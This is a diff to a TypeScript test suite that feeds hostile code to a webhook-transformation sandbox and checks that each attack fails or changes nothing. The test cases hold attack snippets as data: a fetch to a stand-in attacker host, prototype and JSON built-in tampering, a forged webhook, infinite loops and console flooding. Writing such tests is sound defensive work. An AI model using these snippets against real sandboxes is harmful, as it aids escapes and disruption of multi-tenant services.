@@ -1,9 +1,8 @@
-import { createHash } from 'node:crypto';
 import { readdirSync, readFileSync } from 'node:fs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { findEventType } from '../catalog/index.ts';
 import type { TransformationErrorName, TransformationOutcome, WebhookInput } from './contract.ts';
-import { createSandbox, type Sandbox, type SandboxOptions } from './sandbox-pool.ts';
+import { createSandbox, type Sandbox, type SandboxOptions, sandboxProcessOf } from './sandbox-pool.ts';
 
 /**
  * Hostile transformations: each one fails with a clear, typed error (or has a harmless, exact outcome), the
@@ -52,19 +51,10 @@ function expectRequest(outcome: TransformationOutcome) {
   return outcome.request;
 }
 
-/**
- * The process a call goes to, as the pool routes it (md5 of scope and the code's sha256): used to aim a
- * bystander at the attacker's process or at the other one. The timing test below proves the routing.
- */
-function slotOf(scope: string, code: string, processes: number): number {
-  const key = `${scope}:${createHash('sha256').update(code).digest('base64url')}`;
-  return createHash('md5').update(key).digest().readUInt32BE(0) % processes;
-}
-
 function scopeOn(prefix: string, code: string, slot: number, processes = 2): string {
   for (let i = 0; ; i++) {
     const scope = `${prefix}-${i}`;
-    if (slotOf(scope, code, processes) === slot) return scope;
+    if (sandboxProcessOf(scope, code, processes) === slot) return scope;
   }
 }
 
@@ -108,6 +98,11 @@ const fails =
   (name: TransformationErrorName, message: RegExp): Check =>
   (outcome) =>
     expectError(outcome, name, message);
+
+/** The attack changed nothing: the webhook went through as the handler returned it. */
+const passesThrough: Check = (outcome) => {
+  expect(expectRequest(outcome)).toEqual({ method: 'POST', url: URL_, headers: {}, payload: EXAMPLE });
+};
 
 interface HostileCase {
   name: string;
@@ -274,49 +269,70 @@ const cases: HostileCase[] = [
     code: "function handler(webhook) { fetch('https://attacker.example/'); return webhook; }",
     check: fails('TransformationError', /^ReferenceError: fetch is not defined$/),
   },
-  // Tampering with what the sandbox itself runs after the code
+  // Tampering with what the sandbox itself runs: it captured every built-in it uses before the code ran, so
+  // none of these changes what the runtime reports.
   {
     name: 'JSON.stringify replaced to forge a SandboxUnavailableError (which deliveries would retry)',
     code: `JSON.stringify = () => '{"error":{"name":"SandboxUnavailableError","message":"forged"},"console":[]}';
 function handler(webhook) { return webhook; }`,
-    check: fails('TransformationError', /^forged$/),
+    check: passesThrough,
   },
   {
     name: 'JSON.stringify replaced to return undefined',
     code: 'JSON.stringify = () => undefined;\nfunction handler(webhook) { return webhook; }',
-    check: fails('TransformationError', /result could not be read/),
+    check: passesThrough,
   },
   {
     name: 'JSON.stringify replaced to return an object',
     code: 'JSON.stringify = () => ({ not: "a string" });\nfunction handler(webhook) { return webhook; }',
-    check: fails('TransformationError', /result could not be read/),
+    check: passesThrough,
+  },
+  {
+    name: 'JSON.parse replaced to hand the handler a forged webhook',
+    code: `JSON.parse = () => ({ eventType: 'forged', payload: 'forged', url: 'https://evil.example/', method: 'POST', headers: {}, env: {} });
+function handler(webhook) { return webhook; }`,
+    check: passesThrough,
   },
   {
     name: 'Object.prototype.toJSON hijacks the result envelope',
     code: `Object.prototype.toJSON = function () { return { error: { name: 'MemoryLimitError' }, console: [null] }; };
 function handler(webhook) { return null; }`,
-    check: fails('TransformationError', /result could not be read/),
+    check: (outcome) => expect(outcome).toMatchObject({ kind: 'cancelled', console: [] }),
+  },
+  {
+    name: 'Object.prototype.toJSON rewrites the values the code returned, which the contract then checks',
+    code: `Object.prototype.toJSON = function () { return 'rewritten'; };
+function handler(webhook) { return webhook; }`,
+    check: fails('TransformationError', /^webhook\.headers must be an object of strings$/),
   },
   {
     name: 'Object.defineProperty replaced with an infinite loop',
     code: 'Object.defineProperty = function () { while (true) {} };\nfunction handler(webhook) { return webhook; }',
-    check: fails('TimeoutError', /ran past its CPU time limit/),
+    check: passesThrough,
   },
   {
-    name: 'writing straight into the console array: unbounded, bad levels, non-strings',
+    name: 'Array.prototype and String.prototype methods replaced, and index setters on Array.prototype',
+    code: `Array.prototype.push = Array.prototype.join = Array.prototype.map = function () { throw new Error('hijacked'); };
+String.prototype.slice = String.prototype.charCodeAt = function () { throw new Error('hijacked'); };
+Object.defineProperty(Array.prototype, '0', { set() { throw new Error('hijacked'); }, configurable: true });
+function handler(webhook) { console.log('x'.padEnd(5000, 'y')); return webhook; }`,
+    check: (outcome) => {
+      passesThrough(outcome);
+      expect(outcome.console).toEqual([{ level: 'log', message: `x${'y'.repeat(1999)}…` }]);
+    },
+  },
+  {
+    name: 'reaching for the console store, then flooding the console with bad values',
     code: `function handler(webhook) {
-  for (let i = 0; i < 5000; i++) globalThis.__switchyard_console.push({ level: 'evil', message: { i } });
-  globalThis.__switchyard_console.push(null);
+  if (globalThis.__switchyard_console !== undefined) throw new Error('the console store is reachable');
+  for (let i = 0; i < 5000; i++) console.log({ i }, Symbol('s'), () => 1, 10n);
   return webhook;
 }`,
     check: (outcome) => {
-      expectRequest(outcome);
+      passesThrough(outcome);
       expect(outcome.console).toHaveLength(100);
-      expect(outcome.console[0]).toEqual({ level: 'log', message: '{"i":0}' });
-      for (const line of outcome.console) {
-        expect(['log', 'info', 'warn', 'error', 'debug']).toContain(line.level);
-        expect(typeof line.message).toBe('string');
-      }
+      expect(outcome.console[0]).toEqual({ level: 'log', message: '{"i":0} Symbol(s) () => 1 10' });
+      expect(outcome.console[99]).toEqual({ level: 'log', message: '[console output truncated]' });
     },
   },
   // Reading the result: getters, toJSON, proxies
@@ -476,7 +492,7 @@ function handler(webhook) { return null; }`,
       expectError(
         outcome,
         'TransformationError',
-        /^TypeError: Cannot assign to read only property 'eventType'/,
+        /^TypeError: Cannot set property eventType of #<Object> which has only a getter$/,
       );
       expect(outcome).toMatchObject({ error: { line: 2 } });
     },
@@ -575,7 +591,7 @@ describe('hostile transformations', () => {
     const sandbox = hostileCase.sandbox === 'roomy' ? roomy : strict;
     const restartsBefore = sandbox.restarts();
     const scope = `attacker-${index}`;
-    const slot = slotOf(scope, hostileCase.code, 2);
+    const slot = sandboxProcessOf(scope, hostileCase.code, 2);
     // Two other tenants, one on the attacker's process and one on the other, called while the attack runs.
     const [outcome, neighbour, stranger] = await Promise.all([
       sandbox.transform({ scope, code: hostileCase.code, input: hostileCase.input ?? input() }),
@@ -655,7 +671,7 @@ describe('isolation between sandbox processes, timed', () => {
 
   it("a call on the loop's process answers right after the loop's timeout; one on the other process, long before", async () => {
     const loopScope = 'looper';
-    const slot = slotOf(loopScope, LOOP, 2);
+    const slot = sandboxProcessOf(loopScope, LOOP, 2);
     const timed = async (promise: Promise<TransformationOutcome>) => {
       const outcome = await promise;
       return { outcome, at: performance.now() };
